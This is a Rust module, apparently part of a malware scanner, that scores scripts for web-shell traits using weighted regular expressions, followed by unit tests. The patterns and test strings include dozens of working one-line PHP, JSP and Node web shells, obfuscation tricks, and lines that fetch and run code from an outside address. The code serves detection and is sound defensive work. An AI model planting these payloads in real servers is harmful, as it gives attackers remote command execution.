//! The marks of web shells in a script, and how much each weighs. Five points are a web shell; three or four are suspicious.

use std::borrow::Cow;
use std::sync::OnceLock;

use bstr::ByteSlice;
use regex_automata::meta::{Config, Regex};
use regex_automata::util::syntax;

use super::comments::without_comments;
use super::php;
use super::words::{INDIRECT, LOADS, NAMES, OBJECTS, RUNS, WRITES};

/// What a script is written in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Language {
    /// PHP.
    Php,
    /// Java in pages.
    Jsp,
    /// A script that a web server starts, in any language.
    Cgi,
    /// JavaScript. Most of it runs in browsers, and only a server's can run commands.
    Node,
}

/// The marks of a script.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Score {
    /// Their weight.
    pub points: u32,
    /// What they are.
    pub marks: Vec<&'static str>,
    /// Offset of the heaviest.
    pub at: Option<usize>,
    heaviest: u32,
}

impl Score {
    pub(super) fn add(&mut self, points: u32, mark: &'static str, at: Option<usize>) {
        if self.marks.contains(&mark) {
            return;
        }
        self.points = self.points.saturating_add(points);
        self.marks.push(mark);
        if points > self.heaviest && at.is_some() {
            (self.heaviest, self.at) = (points, at);
        }
    }
}

const DECODED: &str = "decoded text that runs as code";
const CHAIN: &str = "text that is decoded several times";
const GATE: &str = "a password in front of it";
const KNOWN: &str = "the name of a known web shell";
const QUIET: &str = "errors and time limits that are switched off";
const UPLOAD: &str = "a form that stores any file";
const OBJECTS_RUN: &str = "objects that call a function of their choice as they end";
const LONG: &str = "a very long line of random text";

const ALONE: &str = "hardly anything else in the script";
/// Length of a script that does nothing else.
const SHORT: usize = 600;

/// A mark: its words, its points, and its patterns, all of which must occur.
type Mark = (&'static str, u32, &'static [&'static str]);

const PHP: [Mark; 18] = [
    (
        RUNS,
        5,
        &[
            r"(?:^|[^\w>:$\\])(?:eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s*\(\s*(?:@|\(|stripslashes\s*\(|base64_decode\s*\(|urldecode\s*\(|gzinflate\s*\(|str_rot13\s*\(|hex2bin\s*\(|trim\s*\(|[\x22'][^\x22';]*[\x22']\s*\.\s*|[\x22']\s*\{?)*\s*(?:\$_(?:get|post|request|cookie|files)\b|\$_server\s*\[\s*[\x22']http_|\$\{?[\x22']?_(?:get|post|request)|file_get_contents\s*\(\s*[\x22']php://input|getallheaders\s*\(|\$http_raw_post_data)",
        ],
    ),
    (RUNS, 5, &[r"\$_(?:get|post|request|cookie)\s*(?:\[[^\]\n]*\]|\{[^}\n]*\})\s*\("]),
    // A backtick where a value may begin: names of columns in SQL have them in the middle of text.
    (
        RUNS,
        5,
        &[
            r"(?:^|[=(;{}@!]|\becho|\bprint|\breturn|<\?(?:=|php))\s*`[^`\n\x00-\x08\x80-\xff]*\$_(?:get|post|request|cookie)\b",
        ],
    ),
    (
        RUNS,
        4,
        &[
            // The function is the second argument of `array_filter`.
            r"(?:(?:array_map|call_user_func(?:_array)?|register_shutdown_function|create_function)\s*\(|(?:array_filter|usort|uasort|uksort|array_walk)\s*\([^;\n]*,)\s*@?\$_(?:get|post|request|cookie)",
        ],
    ),
    (RUNS, 4, &[r"(?:^|[^\w>:$])(?:include|require)(?:_once)?\s*\(?\s*@?\$_(?:get|post|request|cookie)\s*\["]),
    (
        RUNS,
        5,
        &[r"preg_replace\s*\(\s*[\x22'](.)[^\x22'\n]*/[a-z]*e[a-z]*[\x22']\s*,[^;]*\$_(?:get|post|request|cookie)"],
    ),
    (
        OBJECTS,
        3,
        &[
            r"unserialize\s*\(\s*@?(?:base64_decode|gzinflate|gzuncompress|hex2bin|str_rot13)\s*\(\s*@?(?:\$_(?:get|post|request|cookie)\b|\$_server\s*\[\s*[\x22']http_)",
        ],
    ),
    (
        OBJECTS_RUN,
        2,
        &[r"__(?:destruct|wakeup|tostring)\s*\([^)]*\)\s*(?::\s*\w+\s*)?\{[^}]*\(\s*\$this->\w+\s*\)\s*\("],
    ),
    (
        DECODED,
        4,
        &[
            r"(?:^|[^\w>:$\\])(?:eval|assert|create_function)\s*\(\s*(?:@|\(|[\x22']\?>[\x22']\s*\.\s*)*(?:base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|hex2bin|strrev|convert_uudecode|openssl_decrypt|rawurldecode)\s*\(",
        ],
    ),
    (
        CHAIN,
        2,
        &[
            r"(?:base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|hex2bin|strrev|rawurldecode)\s*\(\s*(?:base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|hex2bin|strrev|rawurldecode)\s*\(",
        ],
    ),
    (NAMES, 2, &[r"(?:str_rot13|strrev)\s*\(\s*[\x22'][a-z_]{4,20}[\x22']\s*\)"]),
    (NAMES, 2, &[r"(?:\\x[0-9a-f]{2}){5,}|(?:chr\s*\(\s*\d+\s*\)\s*\.\s*){4,}|\$\{\s*[\x22']_[\x22'.\s]*[a-z]"]),
    (
        NAMES,
        2,
        &[
            r"[\x22'](?:ass|as|ev|sys|sh|exe|bas|base6|pass)[\x22']\s*\.\s*[\x22'](?:ert|sert|al|tem|ell_exec|c|e64_decode|4_decode|thru)",
        ],
    ),
    (
        GATE,
        2,
        &[
            r"(?:md5|sha1|hash)\s*\(\s*(?:[\x22']\w+[\x22']\s*,\s*)?\$_(?:get|post|request|cookie)\s*\[[^\]]*\]\s*\)\s*={2,3}",
        ],
    ),
    (
        KNOWN,
        3,
        &[
            r"c99shell|\br57shell|\bb374k\b|\bp0wny|\balfa(?:team|shell)|\bweevely|\bbehinder\b|\bgodzilla\b|china\s?chopper|antsword|\bfilesman\b|\bwso\s?(?:shell|[0-9.]+)|\bindoxploit|mini shell",
        ],
    ),
    (
        QUIET,
        1,
        &[
            r"@?(?:error_reporting\s*\(\s*0\s*\)|set_time_limit\s*\(\s*0\s*\)|ignore_user_abort\s*\(|ini_set\s*\(\s*[\x22']display_errors[\x22']\s*,\s*[\x22']?(?:0|off))",
        ],
    ),
    (
        UPLOAD,
        2,
        &[r"(?:move_uploaded_file|copy)\s*\(\s*\$_files\s*\[[^;]*,\s*(?:[\x22']\.?/?[\x22']\s*\.\s*)?\$_files\s*\["],
    ),
    (WRITES, 4, &[r"(?:file_put_contents|fopen)\s*\(\s*@?\$_(?:get|post|request|cookie)\s*\["]),
];

const JSP: [Mark; 7] = [
    (RUNS, 5, &[r"\.\s*exec\s*\(", r"getruntime\s*\(\s*\)|\bruntime\b", r"request\s*\.\s*get(?:parameter|header)"]),
    (RUNS, 4, &[r"\bprocessbuilder\b", r"request\s*\.\s*get(?:parameter|header)"]),
    (RUNS, 4, &["scriptenginemanager", r"request\s*\.\s*getparameter"]),
    (LOADS, 5, &["defineclass", r"base64|\baes\b|extends\s+classloader"]),
    (KNOWN, 5, &[r"e45e329feb5d925b|\bbehinder\b|\bgodzilla\b|antsword|jspspy"]),
    (LOADS, 3, &["addfiltermap|filterdef", "standardcontext"]),
    (WRITES, 3, &[r"new\s+(?:java\.io\.)?fileoutputstream\s*\([^;]*request\s*\.\s*getparameter"]),
];

const CGI: [Mark; 8] = [
    (
        RUNS,
        5,
        &[
            r"\b(?:os\.(?:system|popen)|subprocess\.\w+|commands\.getoutput|exec|eval)\s*\([^\n]*(?:\bform(?:\.getvalue|\[)|fieldstorage|query_string|request\.(?:args|form|values|data|get)|params?\[)",
        ],
    ),
    (
        RUNS,
        5,
        &[
            r"child_process[^\n]*\.(?:exec|spawn)\w*\s*\(\s*(?:req|request|query|url)\b|\bexec(?:sync)?\s*\(\s*(?:req|request)\.(?:query|body|params|url|headers)",
        ],
    ),
    (RUNS, 5, &[r"\beval\s*\(\s*(?:req|request)\.(?:query|body|params|headers|cookies)"]),
    (RUNS, 4, &["cgi\\.fieldstorage|query_string", r"os\.popen|os\.system|shell\s*=\s*true"]),
    (
        RUNS,
        5,
        &[
            r"(?:`|\bsystem\s*\(|\bexec\s*\(|\bopen\s*\([^\n]*\|\s*[\x22']?)[^\n]*(?:\bparam\s*\(|\$q->|\$cgi->|\$env\{.?query_string)",
        ],
    ),
    (RUNS, 4, &[r"(?:\beval\s+|\bsh\s+-c\s+|\bbash\s+-c\s+|`|\$\()[^\n]*\$\{?query_string"]),
    (INDIRECT, 4, &[r"\$\{?query_string", r"\beval\s+[\x22']?\$|\bsh\s+-c\s+[\x22']?\$|\|\s*(?:/bin/)?(?:ba)?sh\b"]),
    (KNOWN, 3, &[r"\bpty\.spawn\b|\bwebshell\b"]),
];

const NODE: [Mark; 2] = [
    (
        RUNS,
        5,
        &[
            r"child_process[^\n]*\.(?:exec|spawn)\w*\s*\(\s*(?:req|request|query|url)\b|\bexec(?:sync)?\s*\(\s*(?:req|request)\.(?:query|body|params|url|headers)",
        ],
    ),
    (RUNS, 5, &[r"\beval\s*\(\s*(?:req|request)\.(?:query|body|params|headers|cookies)"]),
];

struct Patterns {
    php: Set,
    jsp: Set,
    cgi: Set,
    node: Set,
}

type Set = Vec<(&'static str, u32, Vec<Regex>)>;

pub(super) fn regex(pattern: &str) -> Option<Regex> {
    let syntax = syntax::Config::new().utf8(false).unicode(false).case_insensitive(true);
    Regex::builder().syntax(syntax).configure(Config::new().utf8_empty(false)).build(pattern).ok()
}

fn set(marks: &[Mark]) -> Option<Set> {
    let of = |patterns: &[&str]| patterns.iter().map(|pattern| regex(pattern)).collect::<Option<Vec<_>>>();
    marks.iter().map(|(words, points, patterns)| Some((*words, *points, of(patterns)?))).collect()
}

fn patterns() -> Option<&'static Patterns> {
    static PATTERNS: OnceLock<Option<Patterns>> = OnceLock::new();
    let make = || Some(Patterns { php: set(&PHP)?, jsp: set(&JSP)?, cgi: set(&CGI)?, node: set(&NODE)? });
    PATTERNS.get_or_init(make).as_ref()
}

/// Counts the marks of a script.
pub(super) fn of(language: Language, text: &[u8]) -> Score {
    let mut score = Score::default();
    let Some(patterns) = patterns() else { return score };
    let text = if language == Language::Php { without_comments(text) } else { Cow::Borrowed(text) };
    let text = text.as_ref();
    let marks = match language {
        Language::Php => &patterns.php,
        Language::Jsp => &patterns.jsp,
        Language::Cgi => &patterns.cgi,
        Language::Node => &patterns.node,
    };
    for (words, points, all) in marks {
        let found: Option<Vec<usize>> = all.iter().map(|regex| Some(regex.find(text)?.start())).collect();
        if let Some(found) = found {
            score.add(*points, words, found.first().copied());
        }
    }
    if language == Language::Php {
        let mut found = php::found(text);
        found.sort_by_key(|found| std::cmp::Reverse(found.points));
        for found in found {
            score.add(found.points, found.words, Some(found.at));
        }
        if score.points == 4 && text.len() < SHORT {
            score.add(1, ALONE, None);
        }
        let is_long = |line: &[u8]| line.len() > 5000 && entropy(line.get(..4096).unwrap_or(line)) > 5.4;
        if score.points > 0 && text.lines().any(is_long) {
            score.add(1, LONG, None);
        }
    }
    score
}

/// Bits a byte.
#[allow(clippy::as_conversions, clippy::cast_precision_loss, reason = "counts of a few thousand bytes are exact")]
fn entropy(bytes: &[u8]) -> f64 {
    let mut counts = [0_u32; 256];
    for &byte in bytes {
        if let Some(count) = counts.get_mut(usize::from(byte)) {
            *count = count.saturating_add(1);
        }
    }
    let total = bytes.len().max(1) as f64;
    counts
        .iter()
        .filter(|count| **count > 0)
        .map(|count| f64::from(*count) / total)
        .map(|part| -part * part.log2())
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn points(language: Language, text: &str) -> u32 {
        of(language, text.as_bytes()).points
    }

    #[test]
    fn patterns_are_valid() {
        assert!(patterns().is_some());
    }

    #[test]
    fn web_shells_of_php_are_known() {
        assert!(
            points(Language::Php, "<?php array_filter([$_GET['a']], $_GET['f']); array_map($_GET['f'], $_GET); // x")
                >= 4
        );
        for text in [
            "<?php system($_GET['c']); ?>",
            "<?php @eval($_POST['x']);",
            "<?php echo shell_exec($_REQUEST[\"cmd\"].' 2>&1'); ?>",
            "<?php $_GET['a']($_POST['b']);",
            "<?php echo `$_GET[0]`;",
            "<?php eval(gzinflate(base64_decode('abc')));",
            "<?php @eval(base64_decode($_POST['z0']));",
            "<?php assert(\"$_POST[x]\");",
            "<?php error_reporting(0); $c = $_GET['c']; passthru($c);",
            "<?php if (md5($_POST['p']) == 'x') { $a = $_POST['a']; eval($a); }",
            "<?php preg_replace('/.*/e', $_POST['x'], '');",
            "<?=`$_GET[0]`?>",
            "<?php $x = `{$_POST['c']} 2>&1`;",
            "<?php /* x */ system(/* y */ $_GET['c']);",
        ] {
            assert!(points(Language::Php, text) >= 5, "{text}: {}", points(Language::Php, text));
        }
    }

    #[test]
    fn what_a_visitor_sends_is_followed() {
        for text in [
            "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['n']);",
            "<?php $p = openssl_decrypt(file_get_contents('php://input'), 'AES128', $k); eval($p);",
            "<?php extract($_REQUEST); @$f($g);",
            "<?php (new ReflectionFunction($_GET['f']))->invoke($_GET['a']);",
            "<?php $r = new ReflectionFunction('sys' . 'tem'); $r->invoke($_GET['a']);",
            "<?php create_function('', $_POST['x'])();",
            "<?php preg_replace_callback('/.*/', $_GET['f'], $_GET['s']);",
            "<?php $c = getallheaders()['X-C']; system($c);",
            "<?php eval('?>' . curl_exec($c));",
            "<?php $t = file_get_contents('http://203.0.113.9/x'); eval($t);",
            "<?php $z = strrev('metsys'); $z(implode('', array_slice($_POST, 0, 1)));",
            "<?php $a = 'ev' . 'al'; $d = $_POST['p']; $f = fn($x) => eval($x); $f($b($d));",
            "<?php function run($c) { return shell_exec($c); } echo run(trim($_REQUEST['q']));",
            "<?php class A { public $c; function go() { eval($this->c); } } $a = new A; $a->c = $_POST['x']; eval($a->c);",
            "<?php class C { function __invoke($p) { eval($p); } } call_user_func(new C(), $_POST['a']);",
            "<?php array_map('assert', (array)$_REQUEST['op']);",
            "<?php array_walk($_GET, 'pass' . 'thru');",
            "<?php $f = tmpfile(); fwrite($f, '<?php ' . $_POST['c']); include stream_get_meta_data($f)['uri'];",
            "<?php file_put_contents($t = '/tmp/a', $_POST['c']); $x = '/tmp/b'; file_put_contents($x, $_POST['c']); include $x;",
            "<?php mail('a@b', '', $_GET['m'], '', '-X/var/www/html/x.php');",
            "<?php $f = FFI::cdef('int system(char*);'); $f->system($_GET['c']);",
            "<?php putenv('LD_PRELOAD=/tmp/x.so'); mail('a', 'b', 'c');",
            "<?php include $_SERVER['HTTP_X_T'];",
            "<?php include 'data:text/plain,' . $_GET['x'];",
            "<?php include 'php://input';",
            "<?php $_ = ('%' ^ '`'); $__ = '_' . (']' ^ \"\\x1a\") . ('e' ^ ' ') . ('t' ^ ' '); $_ = $$__; $_[0]($_[1]);",
            "<?php ${'_' . 'GET'}[0](${'_GET'}[1]);",
            "<?php $a = 'sys'; $a .= 'tem'; $a($_COOKIE['x']);",
            "<?php ('sys' . 'tem')($_GET[0]);",
            "<?php $f = chr(101) . chr(120) . 'ec'; $f($_GET[0]);",
            "<?php $a = 'sys'; $b = 'tem'; \"{$a}$b\"($_GET[0]);",
            "<?php foreach ($_POST as $k => $v) { eval($v); }",
            "<?php list($a, $b) = explode('|', $_COOKIE['s']); $a($b);",
            "<?php $p = [$_POST['a']]; usort($p, 'assert');",
            "<?php filter_var($_GET['c'], FILTER_CALLBACK, ['options' => 'system']);",
            "<?php parse_str($_SERVER['QUERY_STRING'], $q); system($q['c']);",
            "<?php $x = $GLOBALS['_POST']['c']; exec($x);",
            "<?php $q = isset($_GET['c']) ? $_GET['c'] : 'id'; passthru($q);",
            "<?php $s = fsockopen('203.0.113.9', 80); while (!feof($s)) { eval(fgets($s)); }",
            "<?php preg_replace('~.*~e', $_POST['x'], 'a');",
            "<?php file_put_contents($_GET['f'], $_POST['d']);",
        ] {
            assert!(points(Language::Php, text) >= 5, "{text}: {:?}", of(Language::Php, text.as_bytes()));
        }
    }

    #[test]
    fn what_was_cleaned_is_not_followed() {
        for text in [
            "<?php $p = basename($_GET['page']); include $p;",
            "<?php $p = preg_replace('/[^a-z]/', '', $_GET['page']); include $p;",
            "<?php $f = $_GET['f']; if (!in_array($f, $ok, true)) { exit; } $f = (int) $f; system('kill ' . $f);",
            "<?php function a() { $x = $_POST['x']; } function b($x) { system($x); }",
            "<?php $c = $_GET['c']; $c = 'ls'; system($c);",
            "<?php $controls['id'] = $_GET['id']; call_user_func($controls['callback'], $controls['id']);",
            "<?php $x = \"(\\$_POST['a'] ?? null)\"; eval($x);",
            "<?php $f = 'trim'; $f($_POST['a']); array_map('trim', $_POST);",
            "<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $name);",
            "<?php $re->exec($_GET['a']); $db->query($_POST['q']); Foo::system('x');",
            "<?php file_put_contents('log.txt', $_POST['message'], FILE_APPEND);",
            "<?php $html = file_get_contents('https://example.com/'); echo $html;",
            "<?php unserialize($_COOKIE['x'], ['allowed_classes' => false]);",
        ] {
            assert!(points(Language::Php, text) < 3, "{text}: {:?}", of(Language::Php, text.as_bytes()));
        }
    }

    #[test]
    fn ordinary_php_is_not() {
        for text in [
            "<?php $id = intval($_GET['id']); $pdo->exec('DELETE FROM x WHERE id=' . $id);",
            "<?php curl_exec($ch); echo htmlspecialchars($_GET['q']);",
            "<?php exec('convert ' . escapeshellarg($_FILES['f']['tmp_name']), $out);",
            "<?php include __DIR__ . '/header.php'; $x = base64_decode($data);",
            "<?php if (isset($_GET['x'])) { system('ls'); }",
            "<?php $name = $_POST['name']; echo $name; exec($command);",
            "<?php function evaluate($x) { return $this->eval($_POST['a']); }",
            "<?php error_reporting(0); set_time_limit(0); echo 1;",
            "<?php require_once($_SERVER['DOCUMENT_ROOT'] . '/x.php');",
            "<?php\n/**\n * Takes the values of `$_GET['a']` or `$_POST['a']` (see `$_REQUEST`).\n */",
            "<?php // the old way was eval($_POST['x'])\n$q = 'SELECT * FROM `' . $table . '`';",
            "<?php if ($_POST['db'] === array_filter($_POST['db'])) { $q = \"SELECT `a` FROM `{$_POST['t']}`\"; }",
        ] {
            assert!(points(Language::Php, text) < 3, "{text}: {:?}", of(Language::Php, text.as_bytes()));
        }
    }

    #[test]
    fn pages_of_java_and_scripts_of_cgi() {
        let jsp = "<% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>";
        assert!(points(Language::Jsp, jsp) >= 5);
        assert!(points(Language::Jsp, "<%= request.getParameter(\"name\") %>") < 3);
        let loader =
            "<%! class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %>";
        assert!(points(Language::Jsp, loader) >= 5);
        assert!(points(Language::Cgi, "print(os.popen(form.getvalue('c')).read())") >= 5);
        assert!(points(Language::Node, "app.get('/', (req, res) => eval(req.query.x))") >= 5);
        assert!(points(Language::Node, "const r=/^\\d/.exec(e)||[],o=r.exec(t.param(1));window.open(i.$q->x)") < 3);
        assert!(points(Language::Cgi, "import cgi\nform = cgi.FieldStorage()\nprint(form.getvalue('x'))") < 3);
        assert!(points(Language::Cgi, "#!/bin/sh\necho hello $REQUEST_METHOD") < 3);
    }

    #[test]
    fn random_text_has_a_high_entropy() {
        assert!(entropy(b"aaaaaaaa") < 0.1);
        let all: Vec<u8> = (0..=255).collect();
        assert!((entropy(&all) - 8.0).abs() < 1e-9);
    }
}
